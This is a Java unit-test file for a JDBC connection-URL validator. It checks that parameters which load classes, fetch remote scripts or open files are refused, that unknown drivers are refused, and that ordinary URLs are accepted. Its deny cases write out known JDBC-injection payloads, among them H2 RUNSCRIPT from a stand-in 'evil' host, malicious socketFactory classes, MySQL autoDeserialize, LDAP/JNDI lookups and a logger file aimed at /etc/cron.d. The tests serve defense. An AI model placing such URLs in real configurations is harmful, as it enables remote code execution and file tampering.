package io.caravan.error;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:x; init =create alias",
                "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER='evil.Listener'",
                "jdbc:postgresql://h/d?socketFactory=evil.Factory&socketFactoryArg=http://evil",
                "jdbc:postgresql://h/d?user=u&SSLFACTORY=evil.Factory",
                "jdbc:postgresql://h/d?ssl%66actory=evil.Factory",
                "jdbc:postgresql://h/d?ssl%2566actory=evil.Factory",
                "jdbc:postgresql://h/d?loggerLevel=DEBUG&loggerFile=/etc/cron.d/x",
                "jdbc:postgresql:?socketFactory=evil.Factory",
                "jdbc:mysql://h/d?autoDeserialize=true",
                "jdbc:mysql://h/d?allowLoadLocalInfile=true",
                "jdbc:mysql://(host=h,port=3306,queryInterceptors=evil.X)/d",
                "jdbc:mysql://address=(host=h)(autoDeserialize=true)/d",
                "jdbc:mysql:replication://h/d?statementInterceptors=evil.X",
                "jdbc:mariadb://h/d?allowLocalInfile",
                "jdbc:mariadb://h/d?socketFactory=evil.X",
                "jdbc:sqlserver://h;databaseName=d;trustManagerClass=evil.X",
                "jdbc:db2://h:50000/d:clientRerouteServerListJNDIName=ldap://evil/x;",
                "jdbc:oracle:thin:@ldap://evil/x",
                "jdbc:oracle:thin:@h:1521/d?oracle.net.ssl_factory_x=evil",
                "jdbc:sqlite::resource:http://evil/x.db",
                "jdbc:sqlite:/x.db?enable_load_extension=true"
            })
    void aParameterThatRunsCodeOrOpensFilesIsRefusedByItsNameAlone(String url) {
        assertThatThrownBy(() -> check(url))
                .isInstanceOf(ConfigurationException.class)
                .hasMessageStartingWith("jdbc-source: uri must hold no parameter by which the driver loads classes")
                .hasMessageContaining("bean of the registry")
                .hasMessageNotContaining("evil")
                .hasMessageNotContaining("cron");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:derby:memory:x;create=true",
                "jdbc:hsqldb:mem:x",
                "jdbc:evil://u:secret@h/d",
                "jdbc:log4jdbc:mysql://h/d"
            })
    void aDriverThatNobodyLookedAtIsRefused(String url) {
        assertThatThrownBy(() -> check(url))
                .isInstanceOf(ConfigurationException.class)
                .hasMessageContaining("uri must be of one of the drivers ")
                .hasMessageContaining("postgresql")
                .hasMessageNotContaining("secret");
    }

    @Test
    void whatIsNoJdbcUrlIsRefusedWithoutShowingIt() {
        for (String url : List.of("", "jdbc:", "jdbc:postgresql", "postgresql://u:secret@h/d"))
            assertThatThrownBy(() -> check(url))
                    .hasMessage(
                            "jdbc-source: uri must be jdbc:<driver>:<what the driver asks for>, got 'another form'");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://h:5432/d?sslmode=verify-full&user=u&password=p%25%20&currentSchema=a,b",
                "jdbc:postgresql://h1,h2:5433/socketFactory?targetServerType=primary&options=-c%20search_path=x",
                "jdbc:postgresql://h/d?ApplicationName=logger",
                "jdbc:mysql://h:3306/d?useSSL=true&serverTimezone=UTC",
                "jdbc:mariadb://h/d?sslMode=verify-full",
                "jdbc:sqlserver://h:1433;databaseName=d;encrypt=true;trustServerCertificate=false",
                "jdbc:oracle:thin:@//h:1521/service",
                "jdbc:oracle:thin:@tcps://h:1521/service?wallet_location=/x",
                "jdbc:snowflake://a.snowflakecomputing.com/?db=d&warehouse=w",
                "jdbc:clickhouse://h:8123/d?compress=1",
                "jdbc:trino://h:8080/hive/default",
                "jdbc:sqlite:/data/x.db",
                "jdbc:h2:tcp://h/things",
                "jdbc:postgresql://h/100%"
            })
    void whatUsersWriteIsTaken(String url) {
        assertThatCode(() -> check(url)).doesNotThrowAnyException();
        assertThat(url).startsWith("jdbc:");
    }

    private static void check(String url) {
        JdbcUrl.check(new SettingChecks("jdbc-source"), "uri", url).check();
    }
}
